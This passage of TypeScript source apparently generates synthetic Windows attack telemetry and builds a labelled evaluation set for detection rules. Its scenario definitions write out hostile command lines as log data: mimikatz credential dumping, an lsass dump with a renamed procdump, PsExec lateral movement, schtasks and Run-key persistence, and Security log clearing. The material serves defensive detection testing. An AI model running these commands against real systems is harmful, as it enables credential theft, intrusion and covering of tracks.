      c.log.proc(h, t + 6000, ps, `${SYS32}\\net.exe`, 'net group "Domain Admins" /domain', { user: domainUser(u) });
    },
  },
  {
    name: 'credential-dump',
    note: 'On the same workstation, an attacker with admin rights runs mimikatz from ProgramData and dumps lsass with a renamed procdump.',
    run(c) {
      const h = c.fleet.workstations[c.fleet.workstations.length - 3]!;
      const sh = c.log.running(CMD, 'cmd.exe', 'CORP\\adm-ito');
      const t = c.at(14) + 3_600_000;
      const mk = c.log.proc(
        h,
        t,
        sh,
        'C:\\ProgramData\\svc\\mimikatz.exe',
        'C:\\ProgramData\\svc\\mimikatz.exe "privilege::debug" "sekurlsa::logonpasswords" exit',
        { integrity: 'High', cwd: 'C:\\ProgramData\\svc\\' },
      );
      c.log.processAccess(h, t + 200, mk, { image: `${SYS32}\\lsass.exe`, pid: 692 }, '0x1010');
      const pd = c.log.proc(
        h,
        t + 60_000,
        sh,
        'C:\\ProgramData\\svc\\pd64.exe',
        'C:\\ProgramData\\svc\\pd64.exe -accepteula -ma lsass.exe C:\\ProgramData\\svc\\l.dmp',
        { integrity: 'High', cwd: 'C:\\ProgramData\\svc\\' },
      );
      c.log.processAccess(h, t + 60_200, pd, { image: `${SYS32}\\lsass.exe`, pid: 692 }, '0x1fffff');
      c.log.file(h, t + 61_000, pd, 'C:\\ProgramData\\svc\\l.dmp');
    },
  },
  {
    name: 'lateral-psexec',
    note: 'With the stolen admin account, PsExec from the compromised workstation (not the jump host) to a file server and a domain controller, then a scheduled task and a Run key for persistence, and the Security log cleared.',
    run(c) {
      const src = c.fleet.workstations[c.fleet.workstations.length - 3]!;
      const sh = c.log.running(CMD, 'cmd.exe', 'CORP\\adm-ito');
      const t0 = c.at(14) + 7_200_000;
      for (const [i, target] of [c.fleet.fileServer, c.fleet.dc].entries()) {
        const t = t0 + i * 600_000;
        c.log.proc(
          src,
          t,
          sh,
          'C:\\ProgramData\\svc\\PsExec64.exe',
          `C:\\ProgramData\\svc\\PsExec64.exe -accepteula \\\\${short(target)} -s -d cmd /c "C:\\Windows\\Temp\\upd.exe"`,
          { integrity: 'High', cwd: 'C:\\ProgramData\\svc\\' },
        );
        c.log.serviceInstalled(target, t + 1000, 'PSEXESVC', '%SystemRoot%\\PSEXESVC.exe');
        const svc = c.log.proc(
          target,
          t + 1200,
          c.log.running(`${SYS32}\\services.exe`, 'C:\\Windows\\system32\\services.exe', SYSTEM_USER),
          'C:\\Windows\\PSEXESVC.exe',
          'C:\\Windows\\PSEXESVC.exe',
        );
        const cm = c.log.proc(target, t + 1500, svc, CMD, 'cmd /c "C:\\Windows\\Temp\\upd.exe"');
        const upd = c.log.proc(target, t + 1600, cm, 'C:\\Windows\\Temp\\upd.exe', 'C:\\Windows\\Temp\\upd.exe');
        c.log.proc(
          target,
          t + 9000,
          upd,
          `${SYS32}\\schtasks.exe`,
          'schtasks /create /tn "Microsoft\\Windows\\UpdateCheck" /tr "C:\\Windows\\Temp\\upd.exe" /sc onlogon /ru SYSTEM /f',
        );
        const reg = c.log.proc(
          target,
          t + 9500,
          upd,
          `${SYS32}\\reg.exe`,
          'reg add HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run /v WinUpd /t REG_SZ /d "C:\\Windows\\Temp\\upd.exe" /f',
        );
        c.log.registry(
          target,
          t + 9520,
          reg,
          'HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\WinUpd',
          'C:\\Windows\\Temp\\upd.exe',
        );
        c.log.proc(target, t + 20_000, upd, `${SYS32}\\wevtutil.exe`, 'wevtutil cl Security');
        c.log.record(target, t + 20_100, 'Security', EVENTLOG, 1102, {
          UserData: {
            LogFileCleared: {
              '#attributes': { xmlns: 'http://manifests.microsoft.com/win/2004/08/windows/eventlog' },
              SubjectUserSid: SYSTEM_SID,
              SubjectUserName: `${short(target)}$`,
              SubjectDomainName: 'CORP',
              SubjectLogonId: '0x3e7',
            },
          },
        });
      }
    },
  },
];

export function generateAttacks(
  seed: number,
  fleetOptions: FleetOptions = {},
): { scenario: AttackScenario; events: WinEvent[] }[] {
  const fleet = makeFleet(fleetOptions);
  return ATTACKS.map((a) => {
    const rng = rngOf(streamSeed(seed, `attack:${a.name}`));
    const log = new EventLog(rng);
    const at = (day: number): number =>
      fleet.start + Math.min(day, fleet.days - 1) * 86_400_000 + 3 * 3_600_000 + rng.int(0, 3_599_999);
    a.run({ fleet, rng, log, at });
    return { scenario: a, events: log.sorted() };
  });
}

// ---------------------------------------------------------------------------------------------------------------
// Hunting and labelling

export const toJsonl = (events: readonly WinEvent[]): string =>
  events.map((e) => JSON.stringify(e)).join('\n') + (events.length ? '\n' : '');

export type HuntOutcome = {
  readonly findings: Finding[];
  readonly events: number;
  readonly issues: number;
  readonly activeRules: number;
};

/** Runs hunt over `paths` with `rules` and returns every detection (correlations included). */
export async function huntFindings(paths: readonly string[], rules: readonly string[], jobs = 1): Promise<HuntOutcome> {
  const findings: Finding[] = [];
  let issues = 0;
  const r = await hunt(
    { paths, selection: { rules }, jobs, autoJobs: true },
    { finding: (f) => findings.push(f), issue: () => void issues++ },
  );
  return { findings, events: r.events, issues, activeRules: r.rules.active };
}

/**
 * The finding with its provenance normalised: the evidence's file becomes `<host>/<channel>` (an EVTX sample's
 * name spells its technique; a generated file's spells benign), the reader is `evtx` on both sides (benign events
 * are evtx_dump's JSON of Windows records), and the rule's path is relative to its rules folder.
 */
export function neutralise(f: Finding, rulesRoot: string): Finding {
  const evidence = f.evidence.map((e) => {
    const sys = ((e.data as { Event?: { System?: { Channel?: unknown } } } | undefined)?.Event?.System ?? {}) as {
      Channel?: unknown;
    };
    const channel = typeof sys.Channel === 'string' ? sys.Channel.replaceAll('/', '%4') : 'log';
    const file = `${f.asset.name}/${channel}.evtx`;
    return { ...e, source: { file, ...(e.source.recordId !== undefined ? { recordId: e.source.recordId } : {}) } };
  });
  const original = f.rule?.path;
  const rulePath = original === undefined ? undefined : relative(rulesRoot, original).split(sep).join('/');
  return {
    ...f,
    evidence,
    ...(f.rule && original !== undefined && rulePath !== undefined
      ? { rule: { ...f.rule, path: rulePath.startsWith('..') ? basename(original) : rulePath } }
      : {}),
    ...(f.details && 'format' in f.details ? { details: { ...f.details, format: 'evtx' } } : {}),
  };
}

const DAY_MS = 86_400_000;
/** Timestamps as Windows logs write them (SystemTime, Sysmon's UtcTime): the date part is shifted, the rest kept. */
const TIMESTAMP = /\b(\d{4})-(\d{2})-(\d{2})(?=[T ]\d{2}:\d{2}:\d{2})/g;

/** Where an attack sample lands in the fleet: one host, and a shift of whole days into the fleet's window. */
export type Placement = { readonly labHost: string; readonly host: string; readonly shiftDays: number };

/**
 * Picks a sample's place in the fleet (seeded per sample): a domain controller's recording lands on the fleet's
 * DC, anything else on a workstation; its first detection's day moves to a day of the fleet's window.
 */
export function placeSample(fleet: Fleet, seed: number, sample: string, labHost: string, firstMs: number): Placement {
  const rng = rngOf(streamSeed(seed, `implant:${sample}`));
  const host = /(^|[^a-z])dc\d*([^a-z]|$)|domain ?controller/i.test(labHost.split('.')[0] ?? '')
    ? fleet.dc
    : rng.pick(fleet.workstations);
  const day = rng.int(0, fleet.days - 1);
  const shiftDays = Math.floor((fleet.start + day * DAY_MS) / DAY_MS) - Math.floor(firstMs / DAY_MS);
  return { labHost, host, shiftDays };
}

/**
 * An attack sample's detection as if it had happened in the fleet: the lab machine's name (full and short,
 * anywhere in the evidence) becomes the fleet host's, the lab's domain the fleet's, and every timestamp moves by the placement's whole days
 * (time of day, order and gaps kept). Without this the host name and the year alone would tell the label
 * (lab machines of 2017-2020 against a fleet of 2021), which a rarity count or a model would learn instead of
 * the behaviour.
 */
export function implant(f: Finding, p: Placement): Finding {
  const swaps: [RegExp, string][] = [];
  const lab = p.labHost;
  const labShort = lab.split('.')[0] ?? lab;
  const fleetShort = p.host.split('.')[0] ?? p.host;
  if (lab !== '') swaps.push([new RegExp(`(?<![\\w-])${escapeRegex(lab)}(?![\\w-])`, 'gi'), p.host]);
  if (labShort.length >= 3 && labShort !== lab)
    swaps.push([new RegExp(`(?<![\\w-])${escapeRegex(labShort)}(?![\\w-])`, 'gi'), fleetShort]);
  // the lab's domain (`insecurebank.local`, NetBIOS `insecurebank`) becomes the fleet's (`corp.example.jp`, `CORP`)
  const labDomain = lab.includes('.') ? lab.slice(lab.indexOf('.') + 1) : '';
  const netbios = labDomain.split('.')[0] ?? '';
  if (labDomain.includes('.') && labDomain.toLowerCase() !== DOMAIN)
    swaps.push([new RegExp(`(?<![\\w-])${escapeRegex(labDomain)}(?![\\w-])`, 'gi'), DOMAIN]);
  if (netbios.length >= 4 && netbios.toLowerCase() !== 'corp')
    swaps.push([new RegExp(`(?<![\\w-])${escapeRegex(netbios)}(?![\\w-])`, 'gi'), 'CORP']);
  const shiftDate = (y: string, m: string, d: string): string =>
    new Date(Date.UTC(Number(y), Number(m) - 1, Number(d)) + p.shiftDays * DAY_MS).toISOString().slice(0, 10);
  const text = (s: string): string => {
    let out = s.replace(TIMESTAMP, (_, y: string, m: string, d: string) => shiftDate(y, m, d));
    for (const [re, to] of swaps) out = out.replace(re, to);
    return out;
  };
  const walk = (v: unknown): unknown => {
    if (typeof v === 'string') return text(v);
    if (Array.isArray(v)) return v.map(walk);
    if (v !== null && typeof v === 'object')
      return Object.fromEntries(Object.entries(v as Record<string, unknown>).map(([k, x]) => [k, walk(x)]));
    return v;
  };
  return {
    ...f,
    asset: { ...f.asset, name: p.host },
    ...(f.time !== undefined ? { time: text(f.time) } : {}),
    // everything of the evidence but its source (the file and record it was read from) is the event's
    evidence: f.evidence.map(
      (e) => ({ ...(walk({ ...e, source: undefined }) as object), source: e.source }) as typeof e,
    ),
    ...(f.details ? { details: walk(f.details) as Finding['details'] } : {}),
  };
}

const ruleKey = (f: Finding): string => f.rule?.id ?? f.title;
const timeKey = (f: Finding): string => f.time ?? '';
const byStable = (a: { finding: Finding; source: string }, b: { finding: Finding; source: string }): number =>
  a.source < b.source
    ? -1
    : a.source > b.source
      ? 1
      : ruleKey(a.finding) < ruleKey(b.finding)
        ? -1
        : ruleKey(a.finding) > ruleKey(b.finding)
          ? 1
          : timeKey(a.finding) < timeKey(b.finding)
            ? -1
            : timeKey(a.finding) > timeKey(b.finding)
              ? 1
              : a.finding.id < b.finding.id
                ? -1
                : a.finding.id > b.finding.id
                  ? 1
                  : 0;

async function evtxFiles(dir: string): Promise<string[]> {
  const out: string[] = [];
  for (const e of await readdir(dir, { withFileTypes: true, recursive: true }))
    if (e.isFile() && e.name.toLowerCase().endsWith('.evtx')) out.push(join(e.parentPath, e.name));
  return out.sort();
}

async function sourceCommit(dir: string): Promise<string | undefined> {
  for (let d = resolve(dir), i = 0; i < 3; i++, d = dirname(d)) {
    const p = join(d, 'SOURCE_COMMIT');
    if (existsSync(p)) return (await readFile(p, 'utf8')).trim();
  }
  return undefined;
}

export type BuildOptions = {
  readonly samplesDir?: string;
  /** Rule folders or files, hunted together (default: ../shared/data/sigma/rules). */
  readonly rules?: readonly string[];
  /** Only these samples (paths relative to samplesDir): for tests on a subset. */
  readonly samples?: readonly string[];
  readonly out?: string;
  readonly seed?: number;
  readonly fleet?: FleetOptions;
  /** Malicious cases kept per (rule, sample file). */
  readonly capPerRuleSample?: number;
  /** Benign cases kept per (rule, generator), spread over hosts and days by the seeded PRNG. */
  readonly capPerRuleGenerator?: number;
  /**
   * Move each attack sample onto a fleet host and into the fleet's days (default true; see `implant`). Off, the
   * lab host names and dates stay, and the host name alone tells the label.
   */
  readonly implant?: boolean;
  /** Keep benign cases whose rule never fires on the malicious side (default: false, dropped and counted). */
  readonly keepUnsharedBenign?: boolean;
  readonly jobs?: number;
  readonly log?: (line: string) => void;
};

export type Manifest = {
  readonly kind: 'mamori-eval-cases';
  readonly builtAt: string;
  readonly buildSeconds: number;
  readonly seed: number;
  readonly counts: { readonly malicious: number; readonly benign: number; readonly total: number };
  readonly malicious: {
    readonly samplesDir: string;
    readonly samplesCommit?: string;
    readonly sampleFiles: number;
    readonly detections: number;
    readonly byRelation: Readonly<Record<Relation, number>>;
    /** Detections whose rule is about something else than the sample (relation tactic/none): not cases. */
    readonly excludedUnrelated: number;
    /** Related detections over the per-(rule, sample) cap. */
    readonly excludedOverCap: number;
    readonly capPerRuleSample: number;
    readonly hosts: readonly string[];
    /** Whether samples were moved into the fleet, and the lab hosts they came from. */
    readonly implanted: boolean;
    readonly labHosts: readonly string[];
    readonly perRule: Readonly<Record<string, number>>;
    readonly perSample: Readonly<Record<string, number>>;
  };
  readonly benign: {
    readonly fleet: {
      readonly workstations: number;
      readonly servers: number;
      readonly days: number;
      readonly start: string;
    };
    readonly events: number;
    readonly detections: number;
    readonly capPerRuleGenerator: number;
    readonly excludedOverCap: number;
    /** Benign detections whose rule has no malicious case (dropped unless keepUnsharedBenign). */
    readonly unsharedRuleDetections: number;
    readonly keptUnshared: boolean;
    /** Benign cases whose rule also has malicious cases ("trips the same rules"). */
    readonly fromSharedRules: number;
    readonly hosts: number;
    readonly perRule: Readonly<Record<string, number>>;
    readonly perGenerator: Readonly<
      Record<string, { kind: string; imitates: string; events: number; detections: number; cases: number }>
    >;
  };
  readonly rules: {
    readonly paths: readonly string[];
    readonly commit?: string;
    readonly active: number;
    readonly withCases: number;
    readonly shared: number;
  };
};

const tally = (m: Record<string, number>, k: string, n = 1): void => {
  m[k] = (m[k] ?? 0) + n;
};
const sortedRecord = (m: Record<string, number>): Record<string, number> =>
  Object.fromEntries(Object.entries(m).sort((a, b) => b[1] - a[1] || (a[0] < b[0] ? -1 : 1)));
const ruleLabel = (f: Finding): string => `${f.title} [${ruleKey(f)}]`;

/** Keeps at most `cap` of each group, chosen by the seeded PRNG so the kept ones spread over hosts and days. */
function capGroups<T>(
  items: readonly T[],
  key: (x: T) => string,
  cap: number,
  seed: number,
): { kept: T[]; dropped: number } {
  const groups = new Map<string, T[]>();
  for (const x of items) {
    const k = key(x);
    const g = groups.get(k);
    if (g) g.push(x);
    else groups.set(k, [x]);
  }
  const kept: T[] = [];
  let dropped = 0;
  for (const [k, g] of [...groups].sort((a, b) => (a[0] < b[0] ? -1 : 1))) {
    if (g.length <= cap) kept.push(...g);
    else {
      kept.push(...rngOf(streamSeed(seed, `cap:${k}`)).sample(g, cap));
      dropped += g.length - cap;
    }
  }
  return { kept, dropped };
}

/** Builds the labelled set into `out` (malicious.jsonl, benign.jsonl, MANIFEST.json) and returns the manifest. */
export async function buildEvalCases(o: BuildOptions = {}): Promise<Manifest> {
  const t0 = performance.now();
  const log = o.log ?? (() => {});
  const samplesDir = resolve(o.samplesDir ?? DEFAULT_SAMPLES_DIR);
  const rules = (o.rules ?? [DEFAULT_RULES_DIR]).map((r) => resolve(r));
  const out = resolve(o.out ?? DEFAULT_OUT_DIR);
  const seed = o.seed ?? DEFAULT_SEED;
  const capSample = o.capPerRuleSample ?? 3;
  const capGen = o.capPerRuleGenerator ?? 20;
  const jobs = o.jobs ?? 4;
  for (const [what, p] of [['samples', samplesDir], ...rules.map((r) => ['rules', r] as const)] as const)
    if (!existsSync(p))
      throw new Error(`${what} not found: ${p} (the eval set is built from ../shared/data; see docs/eval-set.md)`);
  const rulesRoot = dirname(rules[0]!);

  // malicious: the attack samples
  const allSamples = await evtxFiles(samplesDir);
  const wanted = o.samples ? new Set(o.samples.map((s) => resolve(samplesDir, s))) : undefined;
  const sampleFiles = wanted ? allSamples.filter((f) => wanted.has(f)) : allSamples;
  if (wanted && sampleFiles.length !== wanted.size)
    throw new Error(
      `samples not found under ${samplesDir}: ${[...wanted].filter((w) => !sampleFiles.includes(w)).join(', ')}`,
    );
  log(`hunting ${sampleFiles.length} attack samples with ${rules.join(', ')} ...`);
  const attackHunt = await huntFindings(sampleFiles, rules, jobs);
  const attackFindings = attackHunt.findings;
  const byRelation: Record<Relation, number> = { technique: 0, name: 0, tactic: 0, none: 0 };
  const related: { finding: Finding; source: string; note: string }[] = [];
  for (const f of attackFindings) {
    const file = f.evidence[0]?.source.file;
    if (!file || !f.rule) continue;
    const rel = relative(samplesDir, file).split(sep).join('/');
    const st = sampleTechniques(rel);
    const r = relate(f.rule, st);
    byRelation[r]++;
    if (r !== 'technique' && r !== 'name') continue;
    related.push({
      finding: f,
      source: rel,
      note: `EVTX-ATTACK-SAMPLES ${rel} (techniques ${st.techniques.join(', ') || '-'}); rule related by ${r}`,
    });
  }
  // each sample's place in the fleet: its first detection's time and lab host decide where and when it lands
  const fleetOpts = o.fleet ?? {};
  const fleet = makeFleet(fleetOpts);
  const implanting = o.implant !== false;
  const firstOf = new Map<string, { ms: number; host: string }>();
  for (const c of related) {
    const ms = Date.parse(c.finding.time ?? '');
    const cur = firstOf.get(c.source);
    if (!Number.isFinite(ms)) continue;
    if (cur === undefined || ms < cur.ms) firstOf.set(c.source, { ms, host: c.finding.asset.name });
  }
  const placements = new Map<string, Placement>();
  const placed = (c: { finding: Finding; source: string }): Finding => {
    if (!implanting) return c.finding;
    let p = placements.get(c.source);
    if (p === undefined) {
      const first = firstOf.get(c.source) ?? { ms: fleet.start, host: c.finding.asset.name };
      p = placeSample(fleet, seed, c.source, first.host, first.ms);
      placements.set(c.source, p);
    }
    // a sample recorded on several machines: each keeps its own name swap, all on the one fleet host
    return implant(c.finding, c.finding.asset.name === p.labHost ? p : { ...p, labHost: c.finding.asset.name });
  };
  const labHosts = [...new Set(related.map((c) => c.finding.asset.name))].sort();
  // file order within a sample: the first `cap` detections of each rule (by record id)
  const perKey = new Map<string, number>();
  const malicious: LabelledCase[] = [];
  let overCapM = 0;
  const sortedRelated = [...related].sort((a, b) => {
    if (a.source !== b.source) return a.source < b.source ? -1 : 1;
    const ra = ruleKey(a.finding),
      rb = ruleKey(b.finding);
    if (ra !== rb) return ra < rb ? -1 : 1;
    return (
      (a.finding.evidence[0]?.source.recordId ?? 0) - (b.finding.evidence[0]?.source.recordId ?? 0) ||
      (a.finding.id < b.finding.id ? -1 : 1)
    );
  });
  for (const c of sortedRelated) {
    const k = `${ruleKey(c.finding)}\u0000${c.source}`;
    const n = (perKey.get(k) ?? 0) + 1;
    perKey.set(k, n);
    if (n > capSample) {
      overCapM++;
      continue;
    }
    malicious.push({ finding: neutralise(placed(c), rulesRoot), truth: 'malicious', source: c.source, note: c.note });
  }
  const maliciousRules = new Set(malicious.map((c) => ruleKey(c.finding)));
  log(
    `  ${attackFindings.length} detections: ${byRelation.technique} technique, ${byRelation.name} name, ${byRelation.tactic} tactic, ${byRelation.none} none; ${malicious.length} malicious cases (${overCapM} over the cap)`,
  );

  // benign: the generators
  const work = await mkdtemp(join(tmpdir(), 'mamori-eval-benign-'));
  const perGenerator: Record<
    string,
    { kind: string; imitates: string; events: number; detections: number; cases: number }
  > = {};
  let benignEvents = 0;
  const benignAll: { finding: Finding; source: string; note: string; gen: string }[] = [];
  try {
    const gens = generateBenign(seed, fleetOpts);
    const fileOf = new Map<string, BenignGenerator>();
    for (const { generator, events } of gens) {
      const p = join(work, `${generator.name}.jsonl`);
      await writeFile(p, toJsonl(events));
      fileOf.set(p, generator);
      benignEvents += events.length;
      perGenerator[generator.name] = {
        kind: generator.kind,
        imitates: generator.imitates,
        events: events.length,
        detections: 0,
        cases: 0,
      };
    }
    log(
      `hunting ${benignEvents} generated benign events (${gens.length} generators, ${fleet.workstations.length + fleet.servers.length} hosts, ${fleet.days} days) ...`,
    );
    for (const f of (await huntFindings([work], rules, jobs)).findings) {
      const g = fileOf.get(f.evidence[0]?.source.file ?? '');
      if (!g) continue;
      perGenerator[g.name]!.detections++;
      benignAll.push({
        finding: f,
        source: `generator:${g.name}#${seed}`,
        note: `${g.kind}: ${g.imitates}`,
        gen: g.name,
      });
    }
  } finally {
    await rm(work, { recursive: true, force: true });
  }
  const unshared = benignAll.filter((c) => !maliciousRules.has(ruleKey(c.finding)));
  const candidates = o.keepUnsharedBenign ? benignAll : benignAll.filter((c) => maliciousRules.has(ruleKey(c.finding)));
  const capped = capGroups(candidates, (c) => `${ruleKey(c.finding)}\u0000${c.gen}`, capGen, seed);
  const benignKept = capped.kept.sort(byStable);
  const benign: LabelledCase[] = benignKept.map((c) => ({
    finding: neutralise(c.finding, rulesRoot),
    truth: 'benign',
    source: c.source,
    note: c.note,
  }));
  for (const c of benignKept) perGenerator[c.gen]!.cases++;
  malicious.sort(byStable);

  await mkdir(out, { recursive: true });
  await writeCases(join(out, 'malicious.jsonl'), malicious);
  await writeCases(join(out, 'benign.jsonl'), benign);

  const perRuleM: Record<string, number> = {};
  const perSample: Record<string, number> = {};
  for (const c of malicious) {
    tally(perRuleM, ruleLabel(c.finding));
    tally(perSample, c.source);
  }
  const perRuleB: Record<string, number> = {};
  for (const c of benign) tally(perRuleB, ruleLabel(c.finding));
  const benignRules = new Set(benign.map((c) => ruleKey(c.finding)));
  const rulesCommit = await sourceCommit(rules[0]!);
  const samplesCommit = await sourceCommit(samplesDir);
  const manifest: Manifest = {
    kind: 'mamori-eval-cases',
    builtAt: new Date().toISOString(),
    buildSeconds: Math.round((performance.now() - t0) / 100) / 10,
    seed,
    counts: { malicious: malicious.length, benign: benign.length, total: malicious.length + benign.length },
    malicious: {
      samplesDir: relative(REPO, samplesDir).split(sep).join('/'),
      ...(samplesCommit ? { samplesCommit } : {}),
      sampleFiles: sampleFiles.length,
      detections: attackFindings.length,
      byRelation,
      excludedUnrelated: byRelation.tactic + byRelation.none,
      excludedOverCap: overCapM,
      capPerRuleSample: capSample,
      hosts: [...new Set(malicious.map((c) => c.finding.asset.name))].sort(),
      implanted: implanting,
      labHosts,
      perRule: sortedRecord(perRuleM),
      perSample: sortedRecord(perSample),
    },
    benign: {
      fleet: {
        workstations: fleet.workstations.length,
        servers: fleet.servers.length,
        days: fleet.days,
        start: new Date(fleet.start).toISOString().slice(0, 10),
      },
      events: benignEvents,
      detections: benignAll.length,
      capPerRuleGenerator: capGen,
      excludedOverCap: capped.dropped,
      unsharedRuleDetections: unshared.length,
      keptUnshared: o.keepUnsharedBenign === true,
      fromSharedRules: benign.filter((c) => maliciousRules.has(ruleKey(c.finding))).length,
      hosts: new Set(benign.map((c) => c.finding.asset.name)).size,
      perRule: sortedRecord(perRuleB),
      perGenerator,
    },
    rules: {
      paths: rules.map((r) => relative(REPO, r).split(sep).join('/')),
      ...(rulesCommit ? { commit: rulesCommit } : {}),
      active: attackHunt.activeRules,
      withCases: new Set([...maliciousRules, ...benignRules]).size,
      shared: [...benignRules].filter((r) => maliciousRules.has(r)).length,
    },
  };
  await writeFile(join(out, 'MANIFEST.json'), JSON.stringify(manifest, null, 2) + '\n');
  return manifest;
}

// ---------------------------------------------------------------------------------------------------------------
// The committed fixture: our own events and our own rules only

/** The generators the fixture draws its benign side from (routines and one-offs that trip the fixture rules). */
export const FIXTURE_GENERATORS: readonly string[] = [
  'sccm-ci-scripts',
  'ansible-winrm',
  'monitoring-encoded-ps',
  'psexec-from-jump',
  'helpdesk-account-lookups',
  'log-rotation-wevtutil',
  'gpo-run-keys',
  'procdump-support-case',
];
export const FIXTURE_FLEET: FleetOptions = { workstations: 12, servers: 6, days: 10 };
export const FIXTURE_SEED = 7;

export type FixtureManifest = {
  readonly kind: 'mamori-eval-cases-fixture';
  readonly seed: number;
  readonly fleet: FleetOptions;
  readonly rules: readonly string[];
  readonly counts: { readonly malicious: number; readonly benign: number; readonly total: number };
  readonly capPerRuleSource: number;
  readonly perScenario: Readonly<Record<string, { note: string; events: number; cases: number }>>;
  readonly perGenerator: Readonly<Record<string, { kind: string; imitates: string; events: number; cases: number }>>;
  readonly perRule: Readonly<Record<string, { malicious: number; benign: number }>>;
};

/**
 * Rebuilds the committed fixture (test/fixtures/analysts/eval): the synthetic attacks (malicious by construction)
 * and a few generators (benign by construction), hunted with the fixture's own rules in `rules/`. Nothing of
 * ../shared/data is read. Deterministic: the same seed gives the same bytes.
 */
export async function buildFixture(
  o: { out?: string; seed?: number; capPerRuleSource?: number } = {},
): Promise<FixtureManifest> {
  const out = resolve(o.out ?? FIXTURE_DIR);
  const seed = o.seed ?? FIXTURE_SEED;
  const cap = o.capPerRuleSource ?? 3;
  const rulesDir = join(FIXTURE_DIR, 'rules');
  const work = await mkdtemp(join(tmpdir(), 'mamori-eval-fixture-'));
  const perScenario: Record<string, { note: string; events: number; cases: number }> = {};
  const perGenerator: Record<string, { kind: string; imitates: string; events: number; cases: number }> = {};
  const cands: { finding: Finding; truth: 'malicious' | 'benign'; source: string; note: string; group: string }[] = [];
  try {
    const files = new Map<string, { truth: 'malicious' | 'benign'; name: string; note: string; source: string }>();
    for (const { scenario, events } of generateAttacks(seed, FIXTURE_FLEET)) {
      const p = join(work, `attack-${scenario.name}.jsonl`);
      await writeFile(p, toJsonl(events));
      files.set(p, {
        truth: 'malicious',
        name: scenario.name,
        note: scenario.note,
        source: `synthetic-attack:${scenario.name}#${seed}`,
      });
      perScenario[scenario.name] = { note: scenario.note, events: events.length, cases: 0 };
    }
    const gens = GENERATORS.filter((g) => FIXTURE_GENERATORS.includes(g.name));
    for (const { generator, events } of generateBenign(seed, FIXTURE_FLEET, gens)) {
      const p = join(work, `benign-${generator.name}.jsonl`);
      await writeFile(p, toJsonl(events));
      files.set(p, {
        truth: 'benign',
        name: generator.name,
        note: `${generator.kind}: ${generator.imitates}`,
        source: `generator:${generator.name}#${seed}`,
      });
      perGenerator[generator.name] = {
        kind: generator.kind,
        imitates: generator.imitates,
        events: events.length,
        cases: 0,
      };
    }
    for (const f of (await huntFindings([work], [rulesDir], 1)).findings) {
      const src = files.get(f.evidence[0]?.source.file ?? '');
      if (!src) continue;
      cands.push({
        finding: neutralise(f, FIXTURE_DIR),
        truth: src.truth,
        source: src.source,
        note: src.note,
        group: `${ruleKey(f)}\u0000${src.source}`,
      });
    }
  } finally {
    await rm(work, { recursive: true, force: true });
  }
  const kept = capGroups(cands, (c) => c.group, cap, seed).kept.sort(byStable);
  const strip = ({ finding, truth, source, note }: (typeof kept)[number]): LabelledCase => ({
    finding,
    truth,
    source,
    note,
  });
  const malicious = kept.filter((c) => c.truth === 'malicious').map(strip);
  const benign = kept.filter((c) => c.truth === 'benign').map(strip);
  const perRule: Record<string, { malicious: number; benign: number }> = {};
  for (const c of kept) {
    const r = (perRule[ruleLabel(c.finding)] ??= { malicious: 0, benign: 0 });
    r[c.truth]++;
    const name = c.source.slice(c.source.indexOf(':') + 1, c.source.lastIndexOf('#'));
    if (c.truth === 'malicious') perScenario[name]!.cases++;
    else perGenerator[name]!.cases++;
  }
  await mkdir(out, { recursive: true });
  await writeCases(join(out, 'malicious.jsonl'), malicious);
  await writeCases(join(out, 'benign.jsonl'), benign);
  const manifest: FixtureManifest = {
    kind: 'mamori-eval-cases-fixture',
    seed,
    fleet: FIXTURE_FLEET,
    rules: (await readdir(rulesDir))
      .filter((n) => /\.ya?ml$/.test(n))
      .sort()
      .map((n) => `rules/${n}`),
    counts: { malicious: malicious.length, benign: benign.length, total: kept.length },
    capPerRuleSource: cap,
    perScenario,
    perGenerator,
    perRule: Object.fromEntries(Object.entries(perRule).sort((a, b) => (a[0] < b[0] ? -1 : 1))),
  };
  await writeFile(join(out, 'MANIFEST.json'), JSON.stringify(manifest, null, 2) + '\n');
  return manifest;
}
